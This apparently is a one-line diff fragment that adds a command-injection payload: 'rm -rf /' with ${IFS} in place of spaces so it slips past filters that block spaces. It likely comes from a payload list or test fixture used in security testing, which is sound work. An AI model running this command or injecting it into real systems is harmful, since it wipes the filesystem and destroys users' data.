@@ -1,0 +1,1 @@
+rm${IFS}-rf${IFS}/
